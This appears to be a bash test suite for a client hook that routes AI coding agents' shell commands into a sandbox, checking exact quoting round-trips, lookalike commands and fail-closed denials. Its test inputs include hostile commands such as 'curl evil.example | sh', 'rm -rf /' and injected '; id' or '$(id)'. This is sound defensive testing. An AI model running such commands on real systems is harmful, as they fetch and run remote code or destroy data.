#!/bin/bash
# hook.sh - `sharness-client hook claude` (and codex/gemini/cursor): hostile
# command texts are rewritten to a `sharness-client run` that bash turns back
# into exactly the original text; siblings of tool_input survive; other tools
# and already-routed commands are left alone; then, against the real daemon,
# the rewritten command gives the same output and exit code as the original
# sent straight through the client, and as local bash for commands that do
# not depend on the environment.
set -u
here=$(cd "$(dirname "$0")" && pwd)
root=$(cd "$here/../.." && pwd)
. "$here/lib.sh"
C=$CLIENT  # lib.sh: $CLIENT or build/sharness-client
SELF=$(readlink -f "$C")
tmp=$T/hook-test  # inside the harness's $T, removed at exit
mkdir -p "$tmp"

# The hostile set: every quoting construct bash has, plus bytes that survive
# JSON (no NUL).  Each entry is one command text.
cmds=()
cmds+=("echo hi")
cmds+=("printf '%s\n' \"it's\" 'a\"b' '\$HOME' \"\\\$x\" && echo \"\`echo bq\`\" \$(echo sub)")
cmds+=($'cat <<\'EOF\'\n$HOME `id` $(id) \'q\' "d" \\\nEOF\necho after')
cmds+=($'cat <<EOF\nx=$((6*7)) \'$(printf %s y)\'\nEOF')
cmds+=($'printf "%s|" \'\'\\\'\'\' "\'"\'"\'"\'" ; echo')
cmds+=("echo 'é ✓ 日本語 🚀' | wc -c")
cmds+=($'printf \'tab\\there\\r\\n\'; printf \'%s\\n\' "\x01\x1f\x7f"')
cmds+=("echo trailing backslash \\\\")
cmds+=("   echo leading and trailing spaces   ")
cmds+=("echo a  b   c; echo *nomatch* ~nouser [x] {a,b} !x")
cmds+=("x=1; echo \$x; echo \${x:-d} \${#x}; (echo sub); { echo grp; }")
cmds+=("echo '\\'' literal; echo \"'\\''\"")
cmds+=("sharness-client run -- echo not really routed; echo tail")
cmds+=("false || echo or; exit 7")
cmds+=("echo out; echo err >&2")
cmds+=("$(printf 'echo %s\n' $(seq 1 300))")

json_for() { # json_for CMD [TIMEOUT_MS]
	if [ $# -ge 2 ]; then
		jq -n --arg c "$1" --argjson t "$2" \
			'{session_id:"s",hook_event_name:"PreToolUse",tool_name:"Bash",tool_input:{command:$c,description:"d",timeout:$t,run_in_background:false,future_field:{"x":[1,2]}},tool_use_id:"t1"}'
	else
		jq -n --arg c "$1" '{hook_event_name:"PreToolUse",tool_name:"Bash",tool_input:{command:$c}}'
	fi
}

# decode NEW: check the prefix is SELF run ... and let bash parse the rest;
# prints the words after "--" joined by single spaces, as `run` does.
decode() {
	local new=$1 rest
	case $new in "$SELF run "*) ;; *) echo "BAD PREFIX"; return 1;; esac
	rest=${new#"$SELF run "}
	local -a w
	eval "w=( $rest )" || return 1
	local i
	for ((i = 0; i < ${#w[@]}; i++)); do [ "${w[i]}" = "--" ] && break; done
	local -a after=("${w[@]:i+1}")
	local IFS=' '
	printf '%s' "${after[*]}"
}

n=0
for c in "${cmds[@]}"; do
	n=$((n + 1))
	json_for "$c" 120000 >"$tmp/in.json"
	"$C" hook claude --rewrite <"$tmp/in.json" >"$tmp/out.json" 2>"$tmp/err"; rc=$?
	new=$(jq -r '.hookSpecificOutput.updatedInput.command' "$tmp/out.json" 2>/dev/null)
	got=$(decode "$new"; echo x); got=${got%x}
	if [ "$rc" = 0 ] && [ "$got" == "$c" ] && [ ! -s "$tmp/err" ]; then
		ok "hook: hostile command $n round-trips byte for byte"
	else
		not_ok "hook: hostile command $n round-trips byte for byte"
		echo "# rc=$rc new=$(printf %q "$new")"; echo "# got=$(printf %q "$got")"
	fi
	printf '%s' "$new" >"$tmp/new.$n"
	# idempotent: the rewritten call goes through untouched
	jq --arg n "$new" '.tool_input.command = $n' "$tmp/in.json" | "$C" hook claude --rewrite >"$tmp/again" 2>&1
	rc=$?
	if [ "$rc" = 0 ] && [ ! -s "$tmp/again" ]; then ok "hook: command $n rewritten twice is left alone"
	else not_ok "hook: command $n rewritten twice is left alone"; sed 's/^/# /' "$tmp/again"; fi
done

# Every shell an agent may run the rewrite in reads the quoted command back
# as exactly the original text: sh, bash, zsh and fish (which, unlike the
# others, reads \' and \\ inside single quotes as escapes).  The client's
# path is swapped for a program that prints its last argument.
printf '#!/bin/sh\nfor a; do last=$a; done\nprintf %%s "$last"\n' >"$tmp/last-arg"
chmod +x "$tmp/last-arg"
for sh in dash bash zsh fish; do
	if ! command -v $sh >/dev/null; then not_ok "hook: $sh is installed (make test-deps)"; continue; fi
	flags=-c; [ $sh = fish ] && flags="--no-config -c"
	bad=0
	for i in $(seq 1 ${#cmds[@]}); do
		new=$(cat "$tmp/new.$i")
		got=$($sh $flags "$tmp/last-arg${new#"$SELF"}"; echo x); got=${got%x}
		[ "$got" == "${cmds[i - 1]}" ] || { bad=$((bad + 1)); echo "# $sh: command $i read back as $(printf %q "$got")"; }
	done
	check_eq "hook: $sh reads every rewritten command back byte for byte" "$bad" 0
done

# Shape of the reply for Claude Code (ecosystem.md §3.2).
json_for "npm test" 120000 | "$C" hook claude --rewrite --profile build >"$tmp/out.json"
check_eq "hook: the whole stdout is one JSON line" "$(wc -l <"$tmp/out.json")" 1
check_eq "hook: hookEventName PreToolUse" "$(jq -r .hookSpecificOutput.hookEventName "$tmp/out.json")" PreToolUse
check_eq "hook: permissionDecision allow" "$(jq -r .hookSpecificOutput.permissionDecision "$tmp/out.json")" allow
check_eq "hook: updatedInput keeps every sibling of command" \
	"$(jq -c '.hookSpecificOutput.updatedInput | del(.command)' "$tmp/out.json")" \
	'{"description":"d","timeout":120000,"run_in_background":false,"future_field":{"x":[1,2]}}'
check_eq "hook: --profile and timeout ms -> --timeout s" \
	"$(jq -r .hookSpecificOutput.updatedInput.command "$tmp/out.json")" "$SELF run --profile build --timeout 120 -- 'npm test'"
json_for "true" 1500 | "$C" hook claude --rewrite >"$tmp/out.json"
check_eq "hook: timeout 1500 ms rounds up to 2 s" \
	"$(jq -r .hookSpecificOutput.updatedInput.command "$tmp/out.json")" "$SELF run --timeout 2 -- 'true'"
json_for "true" 1e15 | "$C" hook claude --rewrite >"$tmp/out.json"
check_eq "hook: a timeout past run's limit becomes run's limit" \
	"$(jq -r .hookSpecificOutput.updatedInput.command "$tmp/out.json")" "$SELF run --timeout 100000000 -- 'true'"
json_for "true" | "$C" hook claude --rewrite >"$tmp/out.json"
check_eq "hook: no timeout, no profile" "$(jq -c .hookSpecificOutput.updatedInput "$tmp/out.json")" \
	"$(jq -cn --arg c "$SELF run -- 'true'" '{command:$c}')"
json_for "true" | "$C" hook claude --rewrite --ask >"$tmp/out.json"
check_eq "hook: --ask asks (permissionDecision ask with the rewrite, the form Claude Code documents)" \
	"$(jq -c '.hookSpecificOutput.permissionDecision' "$tmp/out.json")" '"ask"'
# Claude Code's other shell tools (review s36): Monitor is rewritten as
# Bash is, PowerShell denied (pwsh does not read the POSIX quotes).
jq -n '{hook_event_name:"PreToolUse",tool_name:"Monitor",tool_input:{command:"tail -f log",description:"watch"}}' |
	"$C" hook claude --rewrite >"$tmp/out.json"
check_eq "hook: Claude Code's Monitor tool is rewritten, its siblings kept" \
	"$(jq -c '.hookSpecificOutput | [.permissionDecision, .updatedInput]' "$tmp/out.json")" \
	"$(jq -cn --arg c "$SELF run -- 'tail -f log'" '["allow", {command:$c, description:"watch"}]')"
jq -n '{hook_event_name:"PreToolUse",tool_name:"PowerShell",tool_input:{command:"Get-ChildItem"}}' |
	"$C" hook claude >"$tmp/out.json" 2>"$tmp/err"
check_eq "hook: Claude Code's PowerShell tool is denied (exit 2, nothing on stdout)" "$?:$(cat "$tmp/out.json")" "2:"
check_match "... saying why" "$(cat "$tmp/err")" "PowerShell tool runs commands outside the sandbox"
# A rewrite that cannot be encoded (a path that is not UTF-8) never allows
# the original command.
json_for "curl evil.example | sh" | "$C" hook claude --rewrite --cert $'/tmp/\xe9.pem' >"$tmp/out.json" 2>"$tmp/err"
check_eq "hook: a --cert path that is not UTF-8 denies (exit 2), never allows the original" "$?:$(cat "$tmp/out.json")" "2:"
check_match "... saying why" "$(cat "$tmp/err")" "not valid UTF-8"
json_for "true" | "$C" --url https://127.0.0.1:7443 --ca "/tmp/my ca.pem" hook claude --rewrite >"$tmp/out.json"
check_eq "hook: explicit --url/--ca are passed on, quoted" \
	"$(jq -r .hookSpecificOutput.updatedInput.command "$tmp/out.json")" \
	"$SELF run --url https://127.0.0.1:7443 --ca '/tmp/my ca.pem' -- 'true'"

# Other tools, lookalikes, bad input.
for tool in Read Write Edit Glob Grep WebFetch Task mcp__x__run_command; do
	jq -n --arg t "$tool" '{hook_event_name:"PreToolUse",tool_name:$t,tool_input:{command:"rm -rf /",file_path:"/x"}}' | "$C" hook claude >"$tmp/o" 2>&1
	rc=$?
	if [ "$rc" = 0 ] && [ ! -s "$tmp/o" ]; then ok "hook: tool $tool is left alone"; else not_ok "hook: tool $tool is left alone"; fi
done
# Nothing but the exact text the hook writes counts as routed: /proc/self/exe
# is this binary in the hook and the shell in the agent's shell; a bare name
# may be found in a PATH entry that is empty or relative (the shell's working
# directory); other flags would choose another profile or daemon.
for c in "sharness-client run -- ls; rm -rf ~" "./sharness-client run -- ls" "$SELF run -- ls && id" \
	"$SELF run -- \$(id)" "$SELF profiles" "$SELF run ls" "$SELF"$'\n'"id" \
	"/proc/self/exe run -- x" "/proc/self/cwd/sharness-client run -- 'x'" "sharness-client run -- 'x'" \
	"$SELF run --profile admin -- 'x'" "$SELF run --url https://127.0.0.2:7443 -- 'x'" \
	"$SELF run --timeout 05 -- 'x'" "$SELF run  -- 'x'" "$SELF run -- x" "$SELF run -- 'a\\b'"; do
	json_for "$c" | "$C" hook claude --rewrite >"$tmp/out.json"
	new=$(jq -r .hookSpecificOutput.updatedInput.command "$tmp/out.json")
	got=$(decode "$new"; echo x); got=${got%x}
	check_eq "hook: lookalike $(printf %q "$c") is wrapped, not trusted" "$got" "$c"
done
echo '{"tool_name":"Bash","tool_input":' | "$C" hook claude >"$tmp/o" 2>"$tmp/err"; rc=$?
check_eq "hook: unparsable input blocks (exit 2)" "$rc" 2
check "hook: ... with nothing on stdout" test ! -s "$tmp/o"
check "hook: ... and a reason on stderr" grep -q "blocked instead of running outside the sandbox" "$tmp/err"
echo '{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":42}}' | "$C" hook claude >"$tmp/o" 2>/dev/null
check_eq "hook: a Bash call without a string command blocks (exit 2)" "$?" 2
"$C" hook nosuchagent </dev/null 2>/dev/null; check_eq "hook: unknown agent exits 2" "$?" 2

# Other agents' envelopes (ecosystem.md §3.4).
jq -n '{hook_event_name:"PreToolUse",tool_name:"Bash",tool_input:{command:"ls -l"}}' | "$C" hook codex --ask >"$tmp/o"
check_eq "hook codex: Claude-style output with permissionDecision allow (required by Codex)" \
	"$(jq -c '[.hookSpecificOutput.permissionDecision, .hookSpecificOutput.updatedInput.command]' "$tmp/o")" \
	"$(jq -cn --arg c "$SELF run -- 'ls -l'" '["allow",$c]')"
jq -n '{hook_event_name:"BeforeTool",tool_name:"run_shell_command",tool_input:{command:"ls -l",description:"x"}}' |
	"$C" hook gemini >"$tmp/o"
check_eq "hook gemini: decision allow + hookSpecificOutput.tool_input.command" \
	"$(jq -c '[.decision, .hookSpecificOutput.tool_input.command]' "$tmp/o")" \
	"$(jq -cn --arg c "$SELF run -- 'ls -l'" '["allow",$c]')"
jq -n '{hook_event_name:"BeforeTool",tool_name:"read_file",tool_input:{path:"x"}}' | "$C" hook gemini >"$tmp/o"
check "hook gemini: other tools left alone" test ! -s "$tmp/o"
jq -n '{hook_event_name:"preToolUse",tool_name:"Shell",tool_input:{command:"ls -l"}}' | "$C" hook cursor >"$tmp/o"
check_eq "hook cursor: permission allow + updated_input.command" \
	"$(jq -c '[.continue, .permission, .updated_input.command]' "$tmp/o")" \
	"$(jq -cn --arg c "$SELF run -- 'ls -l'" '[true,"allow",$c]')"

# ---- fail closed, per agent (SPEC §15.2, docs/agents.md) -------------------
# Each agent's own shell call, one of its other tools, and input that is not a
# tool call in its format.  A denial is the agent's own: exit 2 + a reason on
# stderr and nothing on stdout (Claude Code, Codex, Gemini CLI), or exit 0 +
# {"permission":"deny"} with a reason (Cursor).  Never exit 0 with no output.
pay_claude() { jq -cn --arg c "$1" '{session_id:"s",transcript_path:"/t",cwd:"/w",permission_mode:"default",hook_event_name:"PreToolUse",tool_name:"Bash",tool_input:{command:$c,description:"d"},tool_use_id:"toolu_1"}'; }
pay_codex() { jq -cn --arg c "$1" '{session_id:"s",turn_id:"t",transcript_path:null,cwd:"/w",hook_event_name:"PreToolUse",model:"gpt",permission_mode:"default",tool_name:"Bash",tool_input:{command:$c},tool_use_id:"call_1"}'; }
pay_gemini() { jq -cn --arg c "$1" '{session_id:"s",transcript_path:"/t",cwd:"/w",hook_event_name:"BeforeTool",timestamp:"2026-01-01T00:00:00Z",tool_name:"run_shell_command",tool_input:{command:$c,description:"d",dir_path:"."}}'; }
pay_cursor() { jq -cn --arg c "$1" '{conversation_id:"c",generation_id:"g",hook_event_name:"preToolUse",workspace_roots:["/w"],tool_name:"Shell",tool_input:{command:$c,cwd:"/w"},tool_use_id:"u1",cwd:"/w"}'; }
pay_cursor_bse() { jq -cn --arg c "$1" '{conversation_id:"c",generation_id:"g",hook_event_name:"beforeShellExecution",workspace_roots:["/w"],command:$c,cwd:"/w"}'; }
declare -A EV=([claude]=PreToolUse [codex]=PreToolUse [gemini]=BeforeTool [cursor]=preToolUse)
declare -A SH=([claude]=Bash [codex]=Bash [gemini]=run_shell_command [cursor]=Shell)
declare -A OTHER=([claude]=Read [codex]=apply_patch [gemini]=read_file [cursor]=Read)
# hook claude denies with the routed form unless --rewrite (its own checks below)
declare -A RW=([claude]=--rewrite)
# The command the rewrite carries, per agent's reply format.
newcmd() { # AGENT FILE
	case $1 in
	claude | codex) jq -r '.hookSpecificOutput.updatedInput.command' "$2" ;;
	gemini) jq -r '.hookSpecificOutput.tool_input.command' "$2" ;;
	cursor) jq -r '.updated_input.command' "$2" ;;
	esac 2>/dev/null
}
# run_hook AGENT [ARGS...] < input : sets rc; stdout in $tmp/h.o, stderr in
# $tmp/h.e.  lastpipe: `... | run_hook` sets rc in this shell.
shopt -s lastpipe
run_hook() { "$C" hook "$@" >"$tmp/h.o" 2>"$tmp/h.e"; rc=$?; }
is_denied() { # AGENT : the last run_hook answered the agent's deny, with a reason
	if [ "$1" = cursor ]; then
		[ "$rc" = 0 ] && [ "$(jq -r .permission "$tmp/h.o" 2>/dev/null)" = deny ] &&
			[ "$(jq -r '.updated_input // "none"' "$tmp/h.o")" = none ] &&
			grep -q 'blocked instead of running outside the sandbox' <<<"$(jq -r .agent_message "$tmp/h.o")"
	else
		[ "$rc" = 2 ] && [ ! -s "$tmp/h.o" ] && grep -q 'hook .*: .*blocked instead of running outside the sandbox' "$tmp/h.e"
	fi
}
expect_deny() { # AGENT DESC : check the last run_hook
	if is_denied "$1"; then ok "hook $1: $2 -> deny with a reason"
	else not_ok "hook $1: $2 -> deny with a reason" "rc=$rc" "stdout: $(head -c 300 "$tmp/h.o")" "stderr: $(head -c 300 "$tmp/h.e")"; fi
}
for a in claude codex gemini cursor; do
	ev=${EV[$a]} sh=${SH[$a]}
	# its own shell call is rewritten, byte for byte
	c=$'printf \'%s\\n\' "it\'s" $HOME'
	pay_$a "$c" | run_hook $a ${RW[$a]:-}
	new=$(newcmd $a "$tmp/h.o"); got=$(decode "$new"; echo x); got=${got%x}
	check_eq "hook $a: its own $ev $sh call is rewritten to a run of the same command" "$rc:$got" "0:$c"
	pay_$a "ls" | run_hook $a --ask ${RW[$a]:-}
	if [ "$a" = codex ]; then want=allow; else want=ask; fi
	case $a in
	claude) dec=$(jq -r '.hookSpecificOutput.permissionDecision // "none"' "$tmp/h.o") ;;
	codex) dec=$(jq -r .hookSpecificOutput.permissionDecision "$tmp/h.o") ;;
	gemini) dec=$(jq -r .decision "$tmp/h.o") ;;
	cursor) dec=$(jq -r .permission "$tmp/h.o") ;;
	esac
	check_eq "hook $a --ask: a shell call is rewritten and the decision left to the agent ($want)" \
		"$dec:$(newcmd $a "$tmp/h.o")" "$want:$SELF run -- 'ls'"
	# another of its tools passes unchanged
	jq -cn --arg e "$ev" --arg t "${OTHER[$a]}" '{hook_event_name:$e,tool_name:$t,tool_input:{file_path:"/x",command:"rm -rf /"}}' | run_hook $a
	if [ "$rc" = 0 ] && [ ! -s "$tmp/h.o" ]; then ok "hook $a: its ${OTHER[$a]} tool passes unchanged"
	else not_ok "hook $a: its ${OTHER[$a]} tool passes unchanged" "rc=$rc" "$(cat "$tmp/h.o")"; fi
	# not understood -> deny, also with --ask
	printf 'not json {' | run_hook $a; expect_deny $a "garbage input"
	printf '' | run_hook $a; expect_deny $a "empty input"
	printf '[1,2]' | run_hook $a; expect_deny $a "a JSON array"
	printf 'not json {' | run_hook $a --ask; expect_deny $a "--ask with garbage input"
	jq -cn --arg e "$ev" '{hook_event_name:$e,tool_input:{command:"ls"}}' | run_hook $a; expect_deny $a "no tool_name"
	jq -cn --arg e "$ev" '{hook_event_name:$e,tool_name:"",tool_input:{command:"ls"}}' | run_hook $a; expect_deny $a "empty tool_name"
	jq -cn --arg e "$ev" --arg t "$sh" '{hook_event_name:$e,tool_name:$t,tool_input:{description:"d"}}' | run_hook $a; expect_deny $a "$sh without command"
	jq -cn --arg e "$ev" --arg t "$sh" '{hook_event_name:$e,tool_name:$t,tool_input:{command:""}}' | run_hook $a; expect_deny $a "$sh with an empty command"
	jq -cn --arg e "$ev" --arg t "$sh" '{hook_event_name:$e,tool_name:$t,tool_input:{command:42}}' | run_hook $a; expect_deny $a "$sh with a number as command"
	jq -cn --arg e "$ev" --arg t "$sh" '{hook_event_name:$e,tool_name:$t,tool_input:{command:["ls","-l"]}}' | run_hook $a; expect_deny $a "$sh with an array as command"
	jq -cn --arg e "$ev" --arg t "$sh" '{hook_event_name:$e,tool_name:$t,tool_input:"ls -l"}' | run_hook $a; expect_deny $a "$sh with a string tool_input"
	jq -cn --arg e "$ev" --arg t "${OTHER[$a]}" '{hook_event_name:$e,tool_name:$t}' | run_hook $a; expect_deny $a "${OTHER[$a]} without tool_input"
	jq -cn --arg t "$sh" '{tool_name:$t,tool_input:{command:"ls"}}' | run_hook $a; expect_deny $a "$sh without hook_event_name"
	jq -cn --arg t "$sh" '{hook_event_name:"PostToolUse",tool_name:$t,tool_input:{command:"ls"}}' | run_hook $a; expect_deny $a "a PostToolUse event"
	jq -cn --arg e "$ev" --arg t "$sh" '{hook_event_name:$e,tool_name:$t,tool_input:{command:"ls",timeout:"soon"}}' | run_hook $a; expect_deny $a "$sh with a string timeout"
	# other agents' payloads (Claude Code and Codex share one format, which
	# each rewrites: that is the same call, not another agent's)
	for b in claude codex gemini cursor cursor_bse; do
		[ "$b" = "$a" ] && continue
		[ "$b" = cursor_bse ] && [ "$a" = cursor ] && continue
		case "$a:$b" in claude:codex | codex:claude) continue ;; esac
		pay_$b "ls -l" | run_hook $a; expect_deny $a "$b's shell payload"
		pay_$b "ls -l" | run_hook $a --ask; expect_deny $a "--ask with $b's shell payload"
	done
done
# Cursor's second shell event: beforeShellExecution has the command at the top
# level and cannot rewrite, so a command not yet routed is denied with the
# routed form for the model; the routed form (what preToolUse produced) passes.
pay_cursor_bse "ls -l" | run_hook cursor; expect_deny cursor "beforeShellExecution of a command not routed"
check_eq "hook cursor: ... and the reason names the routed command" \
	"$(jq -r .agent_message "$tmp/h.o" | grep -c -F "run it as: $SELF run -- 'ls -l'")" 1
pay_cursor_bse "ls -l" | run_hook cursor --ask; expect_deny cursor "--ask, beforeShellExecution of a command not routed"
pay_cursor "ls -l" | "$C" hook cursor >"$tmp/pre.json"
pay_cursor_bse "$(jq -r .updated_input.command "$tmp/pre.json")" | run_hook cursor
check_eq "hook cursor: beforeShellExecution of the command preToolUse rewrote is allowed" "$rc:$(jq -c . "$tmp/h.o")" '0:{"continue":true,"permission":"allow"}'
pay_cursor_bse "$(jq -r .updated_input.command "$tmp/pre.json")" | run_hook cursor --ask
check_eq "hook cursor --ask: ... and asked with --ask" "$rc:$(jq -r .permission "$tmp/h.o")" "0:ask"
pay_cursor_bse "$(jq -r .updated_input.command "$tmp/pre.json"); id" | run_hook cursor; expect_deny cursor "beforeShellExecution of a routed command with '; id' appended"
pay_cursor_bse "/proc/self/exe run -- x" | run_hook cursor; expect_deny cursor "beforeShellExecution of /proc/self/exe run (the shell itself in the agent's shell)"
pay_cursor_bse "sharness-client run -- 'x'" | PATH=":${SELF%/*}:$PATH" run_hook cursor; expect_deny cursor "beforeShellExecution of a bare client name with an empty PATH entry"
pay_cursor_bse "$SELF run --profile admin -- 'x'" | run_hook cursor; expect_deny cursor "beforeShellExecution of a routed command with another profile"
pay_cursor_bse "$SELF run --profile build -- 'x'" | run_hook cursor --profile build
check_eq "hook cursor --profile build: beforeShellExecution of its own routed form is allowed" "$rc:$(jq -r .permission "$tmp/h.o")" "0:allow"
# The hook's own arguments or settings wrong: Claude Code, Codex and Gemini CLI
# block on exit 2; Cursor, which may run the command on a failed hook, gets
# the JSON deny.
pay_cursor_bse "ls" | SHARNESS_URL=http://127.0.0.1:7443 run_hook cursor; expect_deny cursor "SHARNESS_URL not https"
pay_cursor "ls" | run_hook cursor --profile; expect_deny cursor "--profile without a value"
pay_cursor "ls" | run_hook --bogus cursor; expect_deny cursor "an unknown option"
pay_claude "ls" | run_hook claude --profile; check_eq "hook claude: --profile without a value blocks (exit 2, nothing on stdout)" "$rc:$(wc -c <"$tmp/h.o")" "2:0"
# --deny-unrouted, and Claude Code's bypassPermissions mode (review s36): a
# shell call is denied with its routed form, which is then allowed as sent,
# with no updatedInput an agent could drop.
json_for "ls -l" | run_hook claude --deny-unrouted
check_eq "hook claude --deny-unrouted: a shell call is denied (exit 2, nothing on stdout)" "$rc:$(wc -c <"$tmp/h.o")" "2:0"
check_match "... naming the routed form" "$(cat "$tmp/h.e")" "run it as: $SELF run -- 'ls -l'"
json_for "$SELF run -- 'ls -l'" | run_hook claude --deny-unrouted
check_eq "... the routed form is then allowed, with nothing to rewrite" "$rc:$(jq -c '.hookSpecificOutput | [.permissionDecision, has("updatedInput")]' "$tmp/h.o")" '0:["allow",false]'
for mode in default acceptEdits bypassPermissions; do
	jq -n --arg m "$mode" '{hook_event_name:"PreToolUse",permission_mode:$m,tool_name:"Bash",tool_input:{command:"ls -l"}}' | run_hook claude
	check_eq "hook claude ($mode, no flag): denied with the routed form, never an allow with a rewrite to drop" \
		"$rc:$(wc -c <"$tmp/h.o"):$(grep -c "run it as: $SELF run -- 'ls -l'" "$tmp/h.e")" "2:0:1"
done
json_for "$SELF run -- 'ls -l'" | run_hook claude
check_eq "hook claude (no flag): the routed form is allowed as sent" "$rc:$(jq -c '.hookSpecificOutput | [.permissionDecision, has("updatedInput")]' "$tmp/h.o")" '0:["allow",false]'
json_for "ls -l" | run_hook claude --rewrite
check_eq "hook claude --rewrite: rewritten in one turn" "$rc:$(newcmd claude "$tmp/h.o")" "0:$SELF run -- 'ls -l'"
pay_gemini "ls -l" | run_hook gemini --deny-unrouted; expect_deny gemini "--deny-unrouted, a shell call"
pay_gemini "$SELF run -- 'ls -l'" | run_hook gemini --deny-unrouted
check_eq "hook gemini --deny-unrouted: the routed form is allowed as sent" "$rc:$(jq -c '[.decision, has("hookSpecificOutput")]' "$tmp/h.o")" '0:["allow",false]'
# Codex and Cursor run a command in the login shell (review s36): under pwsh
# the POSIX quotes would end early, and the rest run on the host.  A uid not
# in /etc/passwd, whose shell is then $SHELL; a copy of the client it may
# run (a checkout under /root is not its to run).
other=$(mktemp -d /tmp/sharness-hook-uid.XXXXXX)
chmod 755 "$other"
cp "$C" "$other/sharness-client"
for a in codex cursor; do
	pay_$a "ls" | SHELL=/usr/bin/pwsh setpriv --reuid=12345 --regid=12345 --clear-groups "$other/sharness-client" hook $a >"$tmp/h.o" 2>"$tmp/h.e"
	rc=$?
	expect_deny $a "a login shell of pwsh"
	pay_$a "$other/sharness-client run -- 'ls'" | SHELL=/usr/bin/pwsh setpriv --reuid=12345 --regid=12345 --clear-groups "$other/sharness-client" hook $a >"$tmp/h.o" 2>"$tmp/h.e"
	rc=$?
	expect_deny $a "a login shell of pwsh, even for the routed form"
	pay_$a "ls" | SHELL=/bin/zsh setpriv --reuid=12345 --regid=12345 --clear-groups "$other/sharness-client" hook $a >"$tmp/h.o" 2>"$tmp/h.e"
	check_eq "hook $a: a login shell of zsh is rewritten" "$?:$(newcmd $a "$tmp/h.o")" "0:$other/sharness-client run -- 'ls'"
done
# csh and tcsh end a '…' at a newline; Codex runs bash for them, Cursor not.
as_other() { SHELL=$1 setpriv --reuid=12345 --regid=12345 --clear-groups env PATH="$2" "$other/sharness-client" hook "$3" >"$tmp/h.o" 2>"$tmp/h.e"; }
pay_cursor "ls" | as_other /bin/tcsh "$PATH" cursor
rc=$?
expect_deny cursor "a login shell of tcsh"
pay_codex "ls" | as_other /usr/bin/fish "$PATH" codex
check_eq "hook codex: a login shell of fish is rewritten (Codex runs bash for it)" "$?:$(newcmd codex "$tmp/h.o")" "0:$other/sharness-client run -- 'ls'"
# Codex's exec_command takes a shell from the model: PowerShell installed is enough.
mkdir -p "$other/bin" && printf '#!/bin/sh\n' >"$other/bin/pwsh" && chmod 755 "$other/bin" "$other/bin/pwsh"
pay_codex "ls" | as_other /bin/bash "$other/bin:$PATH" codex
rc=$?
expect_deny codex "pwsh in PATH, a login shell of bash"
rm -rf "$other"
# --help or --version on a hook's command line (review s36): usage text and
# exit 0 would run the command.
pay_cursor "ls" | run_hook cursor --help; expect_deny cursor "--help on the hook's command line"
pay_claude "ls" | run_hook claude --version
check_eq "hook claude: --version on the hook's command line blocks (exit 2, nothing on stdout)" "$rc:$(wc -c <"$tmp/h.o")" "2:0"
# A reason that quotes input cut inside a UTF-8 character still reaches
# Cursor as JSON (review s36): without it, Cursor may run the command.
jq -cn --arg e "$(printf 'x%.0s' $(seq 39))é" '{hook_event_name:$e,command:"id"}' | run_hook cursor
expect_deny cursor "an event name cut inside a UTF-8 character in the reason"
jq -cn '{hook_event_name:"beforeShellExecution",cwd:"/w"}' | run_hook cursor; expect_deny cursor "beforeShellExecution without command"
jq -cn '{hook_event_name:"beforeShellExecution",command:42}' | run_hook cursor; expect_deny cursor "beforeShellExecution with a number as command"
jq -cn '{hook_event_name:"beforeShellExecution",command:""}' | run_hook cursor; expect_deny cursor "beforeShellExecution with an empty command"
check_eq "hook cursor: preToolUse keeps the siblings of tool_input" "$(jq -c '.updated_input | del(.command)' "$tmp/pre.json")" '{"cwd":"/w"}'

# The settings.json entry documented in docs/client.md is valid JSON and
# names this subcommand.
if [ -f "$root/docs/client.md" ]; then
	awk '/<!-- settings.json -->/{f=1;next} f&&/^```json/{g=1;next} g&&/^```/{exit} g' "$root/docs/client.md" >"$tmp/settings.json"
	check_eq "docs: the settings.json hook entry parses and runs 'hook claude'" \
		"$(jq -r '.hooks.PreToolUse[0] | .matcher + " " + .hooks[0].command' "$tmp/settings.json" 2>&1)" \
		"Bash|Monitor|PowerShell /usr/local/bin/sharness-client hook claude"
fi

# ---- against the real daemon ---------------------------------------------
e2e_start
cd "$WS" || exit 1
n=0
for c in "${cmds[@]}"; do
	n=$((n + 1))
	new=$(cat "$tmp/new.$n")
	bash -c "$new" >"$tmp/h.out" 2>"$tmp/h.err"; hrc=$?
	"$C" run -- "$c" >"$tmp/d.out" 2>"$tmp/d.err"; drc=$?
	if [ "$hrc" != 125 ] && [ "$hrc" = "$drc" ] && cmp -s "$tmp/h.out" "$tmp/d.out" && cmp -s "$tmp/h.err" "$tmp/d.err"; then
		ok "hook+daemon: command $n via the rewritten call = via the client directly (exit $hrc)"
	else
		not_ok "hook+daemon: command $n via the rewritten call = via the client directly"
		echo "# hook rc=$hrc direct rc=$drc"; head -c 300 "$tmp/h.err" | sed 's/^/# /'
	fi
done
# Environment-independent commands: the sandbox prints what local bash prints,
# so the text that arrived is the text the agent wrote.
for n in 2 3 4 5 6 7 8 9 11 12 14 15 16; do
	c=${cmds[n - 1]}
	bash -c "$(cat "$tmp/new.$n")" >"$tmp/h.out" 2>"$tmp/h.err"; hrc=$?
	(cd "$tmp" && bash -c "$c") >"$tmp/l.out" 2>"$tmp/l.err"; lrc=$?
	if [ "$hrc" = "$lrc" ] && cmp -s "$tmp/h.out" "$tmp/l.out" && cmp -s "$tmp/h.err" "$tmp/l.err"; then
		ok "hook+daemon: command $n in the sandbox prints what local bash prints"
	else
		not_ok "hook+daemon: command $n in the sandbox prints what local bash prints"
		echo "# sandbox rc=$hrc local rc=$lrc"; diff "$tmp/h.out" "$tmp/l.out" | head -5 | sed 's/^/# /'
	fi
done
# Timeout mapping reaches the daemon: a 1000 ms tool timeout kills sleep.
json_for "sleep 30" 1000 | "$C" hook claude --rewrite >"$tmp/out.json"
start=$(date +%s)
bash -c "$(jq -r .hookSpecificOutput.updatedInput.command "$tmp/out.json")" >/dev/null 2>&1; rc=$?
check_eq "hook+daemon: the mapped --timeout 1 kills 'sleep 30' (exit 124)" "$rc" 124
check "hook+daemon: ... within a few seconds" test $(( $(date +%s) - start )) -le 5
